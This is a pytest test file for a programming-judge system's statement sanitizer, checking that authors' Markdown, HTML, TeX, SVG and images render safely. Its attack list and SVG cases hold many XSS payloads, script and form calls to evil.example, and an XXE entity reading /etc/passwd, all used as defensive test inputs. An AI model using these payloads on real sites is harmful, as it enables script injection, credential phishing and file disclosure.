"""Statements as HTML: strangers' Markdown, HTML, formulas and pictures come out harmless, as their authors meant."""

import html
import re
import struct
import zlib
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from judge.common.errors import PackageError
from judge.gateway.statements.pictures import harmless_svg, interaction, look_at
from judge.gateway.statements.shown import PublicFile, View, shielded
from judge.model.statements import Page, Pages
from judge.problems.rendering import formulas, sanitize
from judge.problems.rendering.fragment import StatementText, render

FILES = {"cave.png": "/api/v1/problems/p/files/" + "a" * 64, "img/map.svg": "/api/v1/problems/p/files/" + "b" * 64,
         "plan.pdf": "/api/v1/problems/p/files/" + "c" * 64, "plan.pdf.png": "/api/v1/problems/p/files/" + "d" * 64,
         "other.pdf": "/api/v1/problems/p/files/" + "e" * 64}  # fmt: skip


def html_of(text, kind="md", **options):
    return "".join(render(StatementText(kind=kind, text=text, files=FILES, **options)).pieces)


# --- what must never come out -------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=cave.png onload=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "![x](https://evil.example/beacon.png)",
    "![x](//evil.example/beacon.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x1;javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<img alt="<math><mi>x</mi></math>" src=cave.png>',
    "<img alt='{{nextsample}}' src=cave.png>",
    "<a title='{{remainingsamples}}\" onmouseover=alert(1)'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<embed src='javascript:alert(1)'>",
    "<embed src='\"onerror=alert(1) x=\"'>",
    "<img src='plan.pdf\" onerror=\"alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css'; body { display: none }</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<p style="position:fixed;inset:0">x</p>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=token><button>Log in</button></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<div id=live data-task=x class='card note bad'>x</div>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$<script>alert(1)</script>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\unicode{x3c}script\\unicode{x3e}$$",
    "$\\style{background:url(//evil.example)}{x}$ $\\class{card}{x}$ $\\cssId{live}{x}$",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "![x](cave.png){onerror=alert(1) style=x width=5}",
    '![x" onerror="alert(1)](cave.png "y\\" onload=\\"alert(1)")',
]  # fmt: skip

TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "div", "em", "h2", "h3", "hr", "img", "li", "ol", "p", "pre", "s",
    "section", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul", "math", "mrow", "mi", "mo",
    "mn", "mtext", "mstyle", "mspace", "msup", "msub",
}  # fmt: skip
ATTRIBUTES = {
    "href", "src", "alt", "title", "rel", "id", "class", "width", "height", "display", "align", "start", "value",
    "mathvariant", "stretchy", "displaystyle", "scriptlevel",
}  # fmt: skip


class Seen(HTMLParser):
    """Every element and attribute that a browser would find."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, *attribute) for attribute in attrs]


def harmless(text):
    content = Seen(text)
    assert content.tags <= TAGS, content.tags - TAGS
    for tag, name, value in content.attributes:
        if (tag, name, value) == ("math", "tabindex", "0"):
            continue  # ours, for the keyboard
        assert name in ATTRIBUTES, (tag, name, value)
        if name == "src":
            assert value in FILES.values()
        if name == "href":
            assert value in FILES.values() or value.startswith(("#st-", "https://", "http://", "mailto:")), value
        if name == "id":
            assert value.startswith("st-")
        if name == "class":
            assert value.split() and set(value.split()) <= {"formula", "footnotes", "left", "right", "wrapped"}


@pytest.mark.parametrize("kind", ["md", "html"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_as_text_or_not_at_all(attack, kind):
    harmless(html_of(attack, kind))
    harmless(html_of(f"Before *that* <b>{attack}</b> after $x$ {{{{nextsample}}}}", kind))
    harmless(sanitize.shield(f"<b>{attack}</b> after", set(FILES.values())))


PARTS = st.sampled_from([
    *ATTACKS, "<", ">", '"', "'", "<math>", "</math>", "<mtext>", "<p ", "$", "$$", "`", "\n\n", "&lt;", "<!--",
    "-->", "]]>", "{{nextsample}}", "<svg>", "</svg>", "<style>", "<title>", "\\", "[", "](", ")",
])  # fmt: skip


@given(st.lists(PARTS, max_size=8).map("".join), st.sampled_from(["md", "html"]))
def test_attacks_put_together_stay_harmless(text, kind):
    harmless(html_of(text, kind))
    harmless(sanitize.shield(text, set(FILES.values())))


def page_of(text, kind="md"):
    """The pages of a problem with one statement, as an executor stores them."""
    statement = render(StatementText(kind=kind, text=text, files=FILES))
    return Pages(pages={"a": Page(pieces=statement.pieces, samples=statement.samples)})


def view(files=FILES):
    public = {path.rpartition("/")[2]: PublicFile(name, "statement") for name, path in files.items()}
    return View("p", "f" * 64, "P", [], {}, [], public, 0, False, [], None, "", "", "")


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (
            "md",
            "# A\n\n$x_1^2 \\le \\frac{a}{b}$ ![map](img/map.svg) [file](cave.png) [web](https://a.example/?b=1&c)\n",
        ),
        ("md", "$$\\begin{matrix}a&b\\\\c&d\\end{matrix}$$\n\n{{nextsample}}\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n"),
        ("md", "[^1]\n\n[^1]: x"),
        ("html", "<p align=right id=a><a href='#a'>a</a></p><center>b</center><ol start=3><li value=5>c</ol>"),
        ("html", "<table><tr><td colspan=2 align=left>&nbsp;1&lt;2</table><img src=cave.png width=50% alt='a \"b\"'>"),
        ("txt", "a < b\n  c & d"),
    ],
)
def test_a_gateway_shows_honest_pages_as_they_were_rendered(kind, text):
    pages = page_of(text, kind)
    assert shielded(pages.model_dump_json().encode(), view()) == pages.pages


def test_a_gateway_shows_no_form_of_an_executor_and_closes_what_a_piece_opens():
    form = "<p>Text</p><form method=post action=/users/ada><input type=hidden name=role value=admin><b>"
    pages = Pages(pages={"a": Page(pieces=[form, "</b><a href='/logout'>x</a>"], samples=["next"])})
    shown_pages = shielded(pages.model_dump_json().encode(), view())
    assert shown_pages["a"].pieces == ["<p>Text</p><b></b>", '<a rel="noopener noreferrer nofollow">x</a>']


@pytest.mark.parametrize(
    "stored",
    [b"", b"not json", b'{"pages": {"a": {"pieces": 5}}}', b'{"pages": {"a": {"pieces": ["a"], "samples": ["next"]}}}'],
)
def test_pages_that_are_none_are_left_out(stored):
    assert shielded(stored, view()) == {}


def test_the_marks_for_formulas_cannot_be_guessed_or_doubled():
    first, second = (render(StatementText(kind="md", text="$x$")).pieces for _ in range(2))
    assert first == second and "span" not in first[0]


# --- what must come out -------------------------------------------------------------------------------------------


def test_markdown_as_the_format_has_it():
    text = """# Odd Echo

Some *text* with `code` and a [link](https://example.org "there")[^note].

## Input

| Group | Points |
|:------|-------:|
| 1     | $n=5$  |

- one
- two

![A cave](cave.png){ width=50% }

~~gone~~

[^note]: Said **below**.
"""
    output = html_of(text, title="Odd Echo")
    assert "Odd Echo" not in output and "<h2>Input</h2>" in output
    assert "<em>text</em>" in output and "<code>code</code>" in output and "<s>gone</s>" in output
    assert re.search(r'<a href="https://example.org" title="there" rel="noopener noreferrer nofollow">link</a>', output)
    assert '<th align="right">Points</th>' in output and '<td align="left">1</td>' in output
    assert f'src="{FILES["cave.png"]}"' in output and 'width="50%"' in output and 'alt="A cave"' in output
    assert "Said <strong>below</strong>" in output and 'href="#st-fn' in output and 'id="st-fn' in output
    assert "<math" in output and "style" not in output


def test_a_heading_that_says_something_else_stays():
    assert html_of("# Task", title="Odd Echo") == "<h2>Task</h2>\n"


def test_html_as_people_write_it():
    text = """<!DOCTYPE html><html><head><title>T</title><style>p{}</style></head><body><h1>Caves</h1>
<center><img src="img/map.svg" width="300" alt="map"></center><p style="text-align: center;">In the <i>middle</i></p>
<table border=1><tr><td colspan=2 style="text-align: right">1</td></tr></table>
<math><semantics><mrow><mi>n</mi><mo>&le;</mo><mn>5</mn></mrow><annotation>n</annotation></semantics></math>
</body></html>"""
    output = html_of(text, "html", title="Caves")
    assert "Caves" not in output and "p{}" not in output
    assert f'<center><img src="{FILES["img/map.svg"]}" width="300" alt="map"></center>' in output
    assert "<mi>n</mi><mo>≤</mo><mn>5</mn>" in output and "annotation" not in output
    assert 'colspan="2"' in output and 'align="right"' in output


def test_drawings_in_pdf_are_pictures_or_links():
    output = html_of('<embed src="plan.pdf" style="width:30.0%" /> <img src="plan"> <embed src="other.pdf" />', "html")
    assert output.count(FILES["plan.pdf.png"]) == 2 and 'width="30%"' in output
    assert f'<a href="{FILES["other.pdf"]}" rel="noopener noreferrer nofollow">other.pdf</a>' in output
    assert 'width="151"' in html_of('<img src="cave.png" style="width:4cm" />', "html")


def test_pictures_that_are_not_there_are_named():
    statement = render(StatementText(kind="md", text="![a](nothing.png) ![b](cave.png)", files=FILES))
    assert statement.missing == ["nothing.png"]


def test_samples_stand_where_the_author_put_them():
    text = "One\n\n{{nextsample}}\n\nTwo {{ nextsample }} three\n\n{{remainingsamples}}"
    statement = render(StatementText(kind="md", text=text))
    assert statement.samples == ["next", "next", "rest"]
    assert statement.pieces == ["<p>One</p>\n", "\n<p>Two ", " three</p>\n", "\n"]
    assert render(StatementText(kind="md", text="none")).samples == []
    assert render(StatementText(kind="html", text="<p>{{samples}}</p>")).samples == ["rest"]


def test_plain_text_is_shown_as_it_is():
    assert html_of("a < b\n  <script>", "txt") == '<pre class="box">a &lt; b\n  &lt;script&gt;</pre>'


# --- formulas -------------------------------------------------------------------------------------------------------

# As they stand in public statements.
FORMULAS = r"""
n
1 \le n \le 10^5
1 \leq N \leq 2 \cdot 10^5
a_1, a_2, \ldots, a_n
-10^9 \leq a_i \leq 10^9
\sum_{i=1}^{n} a_i
\frac{a}{b}
\binom{n}{k}
\lfloor \frac{x}{2} \rfloor
\lceil \log_2 n \rceil
O(n \log n)
\mathcal{O}(n^2)
10^9 + 7
a \bmod b
a \equiv b \pmod{m}
x \oplus y
\sqrt{x^2+y^2}
\{1, 2, \dots, n\}
i \neq j
u \rightarrow v
A \subseteq B
x \in \mathbb{Z}
\mathbf{v}
\overline{AB}
\max_{1 \le i \le n} a_i
\gcd(a, b)
1\,000\,000
100\%
\$5
10^{-6}
\text{if } x > 0
\mathrm{dist}(u, v)
\texttt{ABC}
\operatorname{lcm}(a,b)
\left( \frac{1}{2} \right)^n
\begin{cases} 1 & x = 0 \\ f(x-1) & \text{otherwise} \end{cases}
\begin{pmatrix} 1 & 0 \\ 0 & 1 \end{pmatrix}
\begin{aligned} a &= b \\ c &= d \end{aligned}
\vec{x}
\hat{y}
\infty
\forall x \exists y
\underbrace{1 + \cdots + 1}_{n}
p_{i,j}^{(k)}
s_1s_2\dots s_n
|S| \le 100
\|x\|
90^\circ
\pi r^2
\ell
\alpha \beta \gamma
x'
a \mid b
a \nmid b
\lvert x \rvert
\prod_{i=1}^n i
\int_0^1 x\,dx
\lim_{n\to\infty}
\mathit{abc}
\mathtt{abc}
\mathsf{A}
\textbf{no}
\mbox{yes}
\ldots
\cdots
\geq
A \times B
a \land b \lor c
\lnot a
\emptyset
\cup \cap \setminus
x \ll y
x \gg y
\approx
\pm 1
\Delta
\quad
a\;b
a\!b
\stackrel{?}{=}
\mapsto
\Rightarrow
\iff
\star
\ast
N^{N^N}
\langle x, y \rangle
\displaystyle\sum_{i}
\substack{i \\ j}
x_{\text{max}}
\le
<
>
a < b
a&b
""".strip().split("\n")


@pytest.mark.parametrize("tex", FORMULAS)
def test_formulas_of_public_statements(tex):
    for display in (False, True):
        output = formulas.from_tex(tex, display=display)
        assert output is not None and output.startswith("<math"), tex
        tree = ET.fromstring(output)
        assert tree.get("display") == ("block" if display else "inline")
        words = "".join(tree.itertext())
        assert "\\" not in words, words


def test_letters_of_variants_are_those_of_unicode():
    assert "\N{DOUBLE-STRUCK CAPITAL R}" in formulas.from_markup('<math><mi mathvariant="double-struck">R</mi></math>')
    assert "\N{MATHEMATICAL BOLD SMALL V}" in formulas.from_markup('<math><mi mathvariant="bold">v</mi></math>')
    output = formulas.from_markup('<math><mtext mathvariant="monospace">a1</mtext></math>')
    assert "\N{MATHEMATICAL MONOSPACE SMALL A}\N{MATHEMATICAL MONOSPACE DIGIT ONE}" in output
    assert "\N{BLACK-LETTER CAPITAL C}" in formulas.from_markup('<math><mi mathvariant="fraktur">C</mi></math>')


def test_commands_that_are_not_known_are_no_formula():
    assert formulas.from_tex("\\nope{x}", display=False) is None
    assert "{" in formulas.from_tex("\\bigg\\{", display=False)
    assert "<mo>⩽</mo>" in formulas.from_tex("a \\leqslant b", display=False)
    assert 'class="right"' in formulas.from_tex("\\begin{aligned} a &= b \\end{aligned}", display=True)
    assert formulas.from_tex("\\text{\\texttt{a}} \\label{x}", display=False).count("<mtext>") == 1


def test_columns_keep_their_sides():
    output = formulas.from_markup(
        '<math><mtable columnalign="right left"><mtr><mtd/><mtd/><mtd/></mtr></mtable></math>'
    )
    assert re.findall(r'<mtd class="(\w+)">', output) == ["right", "left", "left"]


@pytest.mark.parametrize(
    "tex", ["\\frac{a", "{" * 3000, "}" * 50, "\\left(", "\\begin{matrix}", "^", "x" * 9000, "\\nope{x}"]
)
def test_broken_formulas_are_shown_as_typed(tex):
    output = html_of(f"A ${tex}$ b")
    assert output.startswith("<p>A ") and ("<math" in output or html.escape(tex) in output)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("[" * 30_000, "has '[' more than"), ("$a" * 15_000, "has '$' more than"),
        ("<b>x</b>" * 30_001, "has '<' more than"), ("<div>" * 500, "more than 200 deep"),
        ("<b>x</b>" * 5000, ""), ("![" * 5000, ""), ("&amp;" * 10_000, ""), ("<img src='" * 10_000, ""),
    ],
)  # fmt: skip
def test_large_statements_are_refused_with_one_sentence(text, reason):
    if not reason:
        assert all(len(html_of(text, kind)) < 1024**2 for kind in ("md", "html"))
        return
    with pytest.raises(PackageError, match=f"^the statement .*{re.escape(reason)}.*$"):
        render(StatementText(kind="html", text=text))


# --- pictures -------------------------------------------------------------------------------------------------------


def png(width, height):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"\xff\xc0\x00\x11\x08\x00\x10\x00\x20\x03" + b"\0" * 20
)
GIF = b"GIF89a\x10\x00\x08\x00" + b"\0" * 10


def test_pictures_are_what_they_are_and_not_what_they_are_called():
    assert look_at("a.png", png(10, 10)).media == "image/png"
    assert look_at("a.gif", png(10, 10)).media == "image/png"
    assert look_at("a.jpg", JPEG).media == "image/jpeg"
    assert look_at("a.gif", GIF).media == "image/gif"
    assert look_at("a.png", b"%PDF-1.5 ...").media == "application/pdf"
    for data in (b"", b"<html><script>alert(1)</script>", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF89a", b"MZ"):
        assert look_at("a.png", data) is None


def test_pictures_that_would_fill_the_memory_are_not_shown():
    assert look_at("a.png", png(100_000, 100_000)) is None
    assert look_at("a.png", png(0, 5)) is None
    assert look_at("a.png", png(7000, 7000)) is not None


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        "<script href='x.js'/>",
        "<rect onclick='alert(1)' width='1'/>",
        "<a href='javascript:alert(1)'><text>x</text></a>",
        "<use href='https://evil.example/x.svg#a'/>",
        "<use xlink:href='data:image/svg+xml;base64,AAAA#a'/>",
        "<image href='https://evil.example/x.png'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>rect { fill: url(https://evil.example/x) }</style>",
        "<rect style='fill: url(\"https://evil.example/x\")'/>",
        "<rect fill='url(https://evil.example/x)'/>",
        "<animate attributeName='href' values='javascript:alert(1)'/>",
        "<set attributeName='onclick' to='alert(1)'/>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
    ],
)
def test_forbidden_parts_of_an_svg_are_taken_out(inside):
    output = harmless_svg(SVG.format(f"<rect width='5' height='5'/>{inside}").encode()).decode()
    assert 'width="5"' in output
    for word in (
        "script",
        "alert",
        "evil",
        "data:",
        "foreignObject",
        "onclick",
        "import",
        "animate",
        "<set",
        "handler",
    ):
        assert word not in output, output


def test_an_svg_stays_as_it_was_drawn():
    text = SVG.format(
        '<defs><path id="a" d="M0 0L1 1"/></defs><use xlink:href="#a" fill="url(#g)"/><style>rect{fill:red}</style>'
    )
    output = harmless_svg(text.encode()).decode()
    for part in ('d="M0 0L1 1"', 'xlink:href="#a"', 'fill="url(#g)"', "rect{fill:red}", 'viewBox="0 0 9 9"'):
        assert part in output


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<html/>",
        b"<svg/>",
        b"<svg",
        b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        SVG.format("<g/>" * 40_000).encode(),
        b" " * (2 * 1024**2 + 1),
    ],
)
def test_broken_svgs_are_refused(data):
    with pytest.raises(PackageError):
        harmless_svg(data)


# --- sample interactions ------------------------------------------------------------------------------------------


def test_an_interaction_is_told_in_turns_and_passes():
    assert interaction("<10\n<a\n>5\n<lower\n>3\n") == [[("<", "10\na"), (">", "5"), ("<", "lower"), (">", "3")]]
    assert interaction("< 1\n> 2\n---\n<3\n") == [[("<", "1"), (">", "2")], [("<", "3")]]
    assert interaction("# who begins\n>x\r\n") == [[("", "# who begins"), (">", "x")]]
    assert interaction("") == []


@given(st.text(alphabet="<>-a \n", max_size=60))
def test_any_interaction_is_told(text):
    lines = [line for turns in interaction(text) for _, words in turns for line in words.split("\n")]
    assert len(lines) <= text.count("\n") + 1


def test_a_picture_without_words_gets_some():
    for markup in ('<img src="cave.png">', "<IMG src=cave.png width=5>", '<img src="cave.png" title=\'a > " b\'>'):
        assert '<img alt="Picture"' in sanitize.clean(markup, FILES.get)
    for words in ("", "A cave"):
        output = sanitize.clean(f'<img src="cave.png" alt="{words}">', FILES.get)
        assert output.count("alt=") == 1
        assert f'alt="{words}"' in output


TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("turn", TURNS)
@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("txt", "a {} b"),
        ("md", 'a {} b\n\n## c {}\n\n![{}](cave.png "{}") `{}`\n\n    {}\n\n$x \\text{{ {} }}$'),
        ("md", "a {} [b {}](cave.png)\n\n| {} |\n|---|\n| {} |"),
        ("html", "<p title='{}' dir='rtl'>{}</p><img src='cave.png' alt='{}'><a href='https://e.example/{}'>x{}</a>"),
    ],
)
def test_no_character_turns_the_words_of_a_statement(kind, text, turn):
    """Neither as itself nor as a reference to it; what would turn them is shown by its number."""
    for character in (turn, f"&#{ord(turn)};", f"&#x{ord(turn):X};"):
        output = html.unescape(
            "".join(
                render(
                    StatementText(
                        kind=kind, text=text.replace("{}", character).replace("{{", "{").replace("}}", "}"), files=FILES
                    )
                ).pieces
            )
        )
        assert not set(output) & set(TURNS)
        assert f"\u27e8U+{ord(turn):04X}\u27e9" in output or kind == "txt"


def test_marks_that_arabic_and_hebrew_need_stay():
    text = "\u05d0\u200f, \u0627\u061c \u200e(x)"
    assert text in "".join(render(StatementText(kind="md", text=text, files=FILES)).pieces)
